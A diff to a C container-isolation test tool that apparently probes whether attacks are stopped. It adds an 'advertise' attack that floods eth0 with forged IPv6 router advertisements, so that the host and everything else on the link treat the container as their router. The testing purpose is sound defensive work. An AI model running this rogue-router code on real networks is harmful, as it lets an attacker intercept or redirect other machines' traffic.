@@ -5,6 +5,7 @@
  *   attack NAME [argument...]      0: it worked    1: it was stopped    2: it never came to it
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -12,6 +13,8 @@
 #include <linux/filter.h>
 #include <linux/sched.h>
 #include <linux/seccomp.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
 #include <sched.h>
 #include <signal.h>
 #include <stddef.h>
@@ -233,6 +236,23 @@ static int vsock(char **a) {
     return say(socket(AF_VSOCK, SOCK_STREAM, 0) < 0 ? STOPPED : WORKED, "vsock");
 }
 
+/* advertise SECONDS: tell all on the link, and so the host, that we are the way to the internet. */
+static int advertise(char **a) {
+    struct nd_router_advert us = {.nd_ra_type = ND_ROUTER_ADVERT,
+                                  .nd_ra_router_lifetime = htons(1800)};
+    const unsigned eth0 = if_nametoindex("eth0");
+    struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_scope_id = eth0};
+    const int hops = 255, fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
+    int sent = 0;
+    inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
+    if (setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops) < 0)
+        return say(STOPPED, "socket");
+    for (int i = 0; i < atoi(a[0]) * 10; i++, usleep(100000)) /* our address needs its second */
+        sent += sendto(fd, &us, sizeof us, 0, (struct sockaddr *)&all, sizeof all) > 0;
+    printf("sent %d\n", sent);
+    return sent ? WORKED : STOPPED;
+}
+
 /*
  * spy NAME FILE SECONDS: look for a process that is on its way into this container (all but those
  * called NAME) and reach into it: for FILE in its root, its descriptors, its memory, or trace it.
@@ -391,7 +411,7 @@ static const struct {
     {"euid", euid, 0},           {"vsock", vsock, 0},
     {"overwrite", overwrite, 1}, {"enter", enter, 2},
     {"swap", swap, 2},           {"nest", nest, 1},
-    {"verdict", verdict, 3},
+    {"verdict", verdict, 3},     {"advertise", advertise, 1},
 };
 
 int main(int argc, char **argv) {
